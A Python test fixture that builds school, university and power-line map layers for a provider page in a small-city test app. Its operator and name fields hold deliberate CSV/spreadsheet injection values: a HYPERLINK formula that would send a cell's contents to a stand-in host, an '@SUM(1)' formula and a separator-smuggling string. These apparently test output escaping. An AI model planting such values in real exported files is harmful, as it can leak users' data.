"""Layers of the small city that somebody serves, for the page of providers."""

from shapely.geometry import LineString, Point

from tests.app.small_city import BOUNDS, HOSTILE, make_layer

FORMULA = '=HYPERLINK("https://example.org/"&A1)'
UNLISTED = ["A;B", HOSTILE, FORMULA]


def make_served_layers():
    """Schools and power lines of a provider, of unlisted operators and of nobody, on all sides."""
    left, bottom, right, top = BOUNDS
    lines = [LineString([(left, y), (right, y)]) for y in (bottom, 42.9, top)]
    return {
        "schools": make_layer(
            "schools",
            [Point(20.85 + i / 1000, 42.905) for i in range(7)],
            operator=["A Provider", *UNLISTED, None, None, None],
            provider=["a-provider", *[None] * 6],
            provider_basis=["operator", *["unlisted"] * 3, "none", "none", "none"],
            provider_confidence=[0.9, *[float("nan")] * 6],
            provider_claims=[2, 1, 1, 1, 0, 0, 0],
            side=["north", "south", "north", "north", "south", "across", "north"],
            municipality=["town"] * 7,
            name=[HOSTILE, "@SUM(1)", *[None] * 5],
        ),
        "universities": make_layer(
            "universities",
            [Point(20.86 + i / 1000, 42.905) for i in range(5)],
            provider_basis=["none"] * 5,
            municipality=["town"] * 5,
        ),
        "power_lines": make_layer(
            "power_lines",
            lines,
            provider=["a-provider"] * 3,
            provider_basis=["operator", "network", "service-area"],
            provider_confidence=[0.9, 0.7, 0.4],
            side=["south", "river", "outside"],
        ),
    }
